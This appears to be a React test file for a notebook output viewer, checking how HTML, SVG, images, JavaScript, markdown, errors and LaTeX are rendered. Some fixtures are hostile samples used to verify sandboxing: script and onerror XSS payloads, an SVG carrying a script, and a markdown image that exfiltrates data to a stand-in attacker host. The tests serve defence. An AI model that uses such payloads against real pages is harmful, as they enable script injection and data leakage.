import { act, render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { FakeIntersectionObserver } from '../test/fakeIntersectionObserver';
import { OutputView } from './OutputView';

test('HTML with script renders in a frame sandboxed with no permissions at all, via srcdoc', () => {
  const { container } = render(
    <OutputView output={{ type: 'display_data', data: { 'text/html': '<script>parent.x=1</script><img src=x onerror="parent.y=1">' }, metadata: {} }} />,
  );
  act(() => FakeIntersectionObserver.revealAll());
  const frame = screen.getByTestId('html-output');
  expect(frame.tagName).toBe('IFRAME');
  expect(frame.getAttribute('sandbox')).toBe('');
  expect(frame.getAttribute('srcdoc')).toContain('<script>parent.x=1</script>');
  expect(frame).not.toHaveAttribute('src');
  // Nothing of it reached the page itself.
  expect(container.querySelector('script')).toBeNull();
  expect(container.querySelector('img')).toBeNull();
});

test('a pandas table (HTML and plain text) is shown as HTML, inline', () => {
  render(<OutputView output={{ type: 'execute_result', executionCount: 1, data: { 'text/html': '<table><tr><td>1</td></tr></table>', 'text/plain': '   a\n0  1' }, metadata: {} }} />);
  expect(screen.getByTestId('output-display')).toHaveAttribute('data-mime', 'text/html');
  expect(screen.getByTestId('html-inline')).toBeInTheDocument();
  expect(screen.queryByTestId('html-output')).toBeNull();
});

test('SVG is an <img> data URL, never inline markup', () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>';
  const { container } = render(<OutputView output={{ type: 'display_data', data: { 'image/svg+xml': svg }, metadata: {} }} />);
  const img = screen.getByTestId('output-image');
  expect(img.getAttribute('src')).toBe(`data:image/svg+xml;charset=utf-8,${encodeURIComponent(svg)}`);
  expect(container.querySelector('svg')).toBeNull();
});

test('PNG output becomes a base64 data URL with line breaks removed', () => {
  render(<OutputView output={{ type: 'display_data', data: { 'image/png': 'iVBOR\nw0KGgo=\n', 'text/plain': '<Figure size 640x480>' }, metadata: {} }} />);
  const img = screen.getByRole('img', { name: '<Figure size 640x480>' });
  expect(img).toHaveAttribute('src', 'data:image/png;base64,iVBORw0KGgo=');
});

test('JavaScript output never runs: its text fallback shows with a note', () => {
  const { container } = render(
    <OutputView output={{ type: 'display_data', data: { 'application/javascript': 'window.ran = true', 'text/plain': '<IPython.core.display.Javascript object>' }, metadata: {} }} />,
  );
  expect(screen.getByTestId('javascript-blocked')).toBeInTheDocument();
  expect(screen.getByText('<IPython.core.display.Javascript object>')).toBeInTheDocument();
  expect(container.querySelector('script')).toBeNull();
  expect((window as unknown as { ran?: boolean }).ran).toBeUndefined();
});

test('markdown output with a remote image shows a link instead of loading it', () => {
  const { container } = render(
    <OutputView output={{ type: 'display_data', data: { 'text/markdown': 'see ![secret](https://evil.example/leak?d=42)' }, metadata: {} }} />,
  );
  expect(container.querySelector('img')).toBeNull();
  const link = screen.getByTestId('blocked-image');
  expect(link).toHaveAttribute('href', 'https://evil.example/leak?d=42');
  expect(link).toHaveTextContent('secret');
});

test('stderr and coloured tracebacks render as styled text', () => {
  render(
    <>
      <OutputView output={{ type: 'stream', name: 'stderr', text: 'warning: x\n' }} />
      <OutputView output={{ type: 'error', ename: 'ZeroDivisionError', evalue: 'division by zero', traceback: ['\u001b[0;31mZeroDivisionError\u001b[0m: division by zero'] }} />
    </>,
  );
  expect(screen.getByTestId('output-stderr')).toHaveTextContent('warning: x');
  const red = screen.getByText('ZeroDivisionError');
  expect(red).toHaveClass('ansi-fg-red');
  expect(screen.getByTestId('output-error')).toHaveTextContent('ZeroDivisionError: division by zero');
});

test('an error without a traceback still names the exception', () => {
  render(<OutputView output={{ type: 'error', ename: 'KeyError', evalue: "'x'", traceback: [] }} />);
  expect(screen.getByTestId('output-error')).toHaveTextContent("KeyError: 'x'");
});

test('long output shows head and tail until "show all" is pressed', async () => {
  const text = Array.from({ length: 500 }, (_, i) => `row ${i}`).join('\n');
  render(<OutputView output={{ type: 'stream', name: 'stdout', text }} />);
  const out = screen.getByTestId('output-stdout');
  expect(out).toHaveTextContent('row 0');
  expect(out).toHaveTextContent('row 499');
  expect(out).not.toHaveTextContent('row 250');
  await userEvent.click(screen.getByTestId('show-all'));
  expect(out).toHaveTextContent('row 250');
});

test('LaTeX output is typeset by KaTeX once it has loaded', async () => {
  const { container } = render(<OutputView output={{ type: 'display_data', data: { 'text/latex': '$$x^2$$', 'text/plain': '<Latex>' }, metadata: {} }} />);
  await waitFor(() => expect(container.querySelector('.katex')).not.toBeNull(), { timeout: 5000 });
});
